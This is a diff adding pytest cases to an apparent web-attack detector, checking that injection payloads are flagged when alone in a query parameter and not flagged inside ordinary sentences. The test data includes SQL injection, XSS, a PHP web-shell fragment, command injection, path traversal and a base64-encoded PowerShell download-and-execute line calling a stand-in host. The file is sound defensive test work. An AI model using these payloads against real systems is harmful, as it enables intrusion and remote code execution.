@@ -85,6 +85,31 @@ def test_a_question_about_code_is_an_attack_in_other_parameters_only(value: str)
     assert not judge(f"/search?q={value}", None, _BROWSER).is_attack
 
 
+@pytest.mark.parametrize(
+    ("words", "attack"),
+    [
+        ("install+with+%60pip+install+a%60+and+go", "%60pip+install+a%60"),
+        ("files+in+c:%5Cwindows%5Csystem32+of+old", "c:%5Cwindows%5Csystem32%5Ca"),
+        ("how+sleep(5)+works+in+php", "1+and+sleep(5)"),
+    ],
+)
+def test_a_field_for_words_is_judged_by_whether_its_value_reads_as_words(
+    words: str, attack: str
+) -> None:
+    """The same form within a sentence is no attack, and alone it is one."""
+    assert not judge(f"/search?q={words}", None, _BROWSER).is_attack
+    assert judge(f"/search?q={attack}", None, _BROWSER).is_attack
+
+
+def test_base64_within_base64_and_of_utf_16_is_read() -> None:
+    """As filters are passed, and as PowerShell takes its commands."""
+    inner = base64.b64encode(b"<script>alert(1)</script>")
+    wide = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".encode("utf-16-le")
+    for octets in (inner, wide):
+        encoded = base64.b64encode(octets).decode()
+        assert judge(f"/a?x={quote(encoded, safe='')}", None, _BROWSER).is_attack
+
+
 @pytest.mark.parametrize("before", ["", "x", "xy", "xyz"])
 @pytest.mark.parametrize(
     "payload", ["1 and (select sleep(5))--", "<script>alert(1)</script>", "<?php system($_GET[1]);"]
